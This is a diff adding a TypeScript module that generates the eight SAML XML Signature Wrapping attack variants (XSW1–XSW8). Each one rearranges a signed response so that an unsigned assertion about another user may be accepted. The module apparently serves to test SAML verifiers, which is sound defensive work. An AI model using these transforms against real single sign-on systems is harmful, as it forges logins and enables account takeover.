@@ -1,0 +1,107 @@
+/** The parts of an answer that signature wrapping rearranges. */
+export interface Wrapped {
+  /** A whole answer whose assertion is signed. */
+  readonly withSignedAssertion: string
+  /** A whole answer that is signed as a whole. */
+  readonly withSignedResponse: string
+  /** An assertion about somebody else, without a signature. */
+  readonly evil: string
+}
+
+const ASSERTION = /<saml:Assertion.*<\/saml:Assertion>/s
+const SIGNATURE = /<ds:Signature.*<\/ds:Signature>/s
+
+function partOf(xml: string, pattern: RegExp): string {
+  const [part] = pattern.exec(xml) ?? []
+  if (part === undefined) throw new Error('The answer lacks a part that the attack rearranges.')
+  return part
+}
+
+/** The evil assertion as it stands in an answer with the signature of another. */
+function evilSignedBy(evil: string, signature: string): string {
+  return evil.replace('</saml:Issuer>', `</saml:Issuer>${signature}`)
+}
+
+function within(signature: string, content: string): string {
+  return signature.replace('</ds:Signature>', `<ds:Object>${content}</ds:Object></ds:Signature>`)
+}
+
+/** An answer about somebody else, named otherwise, with a signature and what it was made for. */
+function evilResponse(xml: string, evil: string, rest: string): string {
+  const signature = partOf(xml, SIGNATURE)
+  return xml
+    .replace(signature, rest)
+    .replace('ID="_answer"', 'ID="_evil"')
+    .replace(partOf(xml, ASSERTION), evil)
+}
+
+/**
+ * The eight forms of signature wrapping (Somorovsky et al., "On Breaking SAML", 2012),
+ * as tools for testing name them. Each keeps what was signed unchanged somewhere
+ * in the document, and puts an assertion about somebody else where it may be read.
+ */
+export const SIGNATURE_WRAPPINGS: Readonly<Record<string, (wrapped: Wrapped) => string>> = {
+  'XSW1: the signed response inside the signature of another': ({ withSignedResponse, evil }) => {
+    const signature = partOf(withSignedResponse, SIGNATURE)
+    const signed = withSignedResponse.replace(signature, '')
+    return evilResponse(withSignedResponse, evil, within(signature, signed))
+  },
+  'XSW2: the signed response beside its signature in another': ({ withSignedResponse, evil }) => {
+    const signature = partOf(withSignedResponse, SIGNATURE)
+    const signed = withSignedResponse.replace(signature, '')
+    return evilResponse(withSignedResponse, evil, `${signed}${signature}`)
+  },
+  'XSW3: another assertion before the signed one': ({ withSignedAssertion, evil }) =>
+    withSignedAssertion.replace('<saml:Assertion', `${evil}<saml:Assertion`),
+  'XSW4: the signed assertion inside another': ({ withSignedAssertion, evil }) => {
+    const signed = partOf(withSignedAssertion, ASSERTION)
+    return withSignedAssertion.replace(
+      signed,
+      evil.replace('</saml:Assertion>', `${signed}</saml:Assertion>`),
+    )
+  },
+  'XSW5: the signature in another assertion, the signed one behind it': ({
+    withSignedAssertion,
+    evil,
+  }) => {
+    const signed = partOf(withSignedAssertion, ASSERTION)
+    const signature = partOf(signed, SIGNATURE)
+    return withSignedAssertion.replace(
+      signed,
+      `${evilSignedBy(evil, signature)}${signed.replace(signature, '')}`,
+    )
+  },
+  'XSW6: the signed assertion inside the signature of another': ({ withSignedAssertion, evil }) => {
+    const signed = partOf(withSignedAssertion, ASSERTION)
+    const signature = partOf(signed, SIGNATURE)
+    return withSignedAssertion.replace(
+      signed,
+      evilSignedBy(
+        evil,
+        signature.replace('</ds:Signature>', `${signed.replace(signature, '')}</ds:Signature>`),
+      ),
+    )
+  },
+  'XSW7: another assertion of the same name in extensions': ({ withSignedAssertion, evil }) => {
+    const signed = partOf(withSignedAssertion, ASSERTION)
+    const [, id = ''] = / ID="([^"]*)"/.exec(signed) ?? []
+    const twin = evil.replace(/ ID="[^"]*"/, ` ID="${id}"`)
+    return withSignedAssertion.replace(
+      signed,
+      `<samlp:Extensions>${twin}</samlp:Extensions>${signed}`,
+    )
+  },
+  'XSW8: the signed assertion as an object of the signature of its twin': ({
+    withSignedAssertion,
+    evil,
+  }) => {
+    const signed = partOf(withSignedAssertion, ASSERTION)
+    const signature = partOf(signed, SIGNATURE)
+    const [, id = ''] = / ID="([^"]*)"/.exec(signed) ?? []
+    const twin = evil.replace(/ ID="[^"]*"/, ` ID="${id}"`)
+    return withSignedAssertion.replace(
+      signed,
+      evilSignedBy(twin, within(signature, signed.replace(signature, ''))),
+    )
+  },
+}
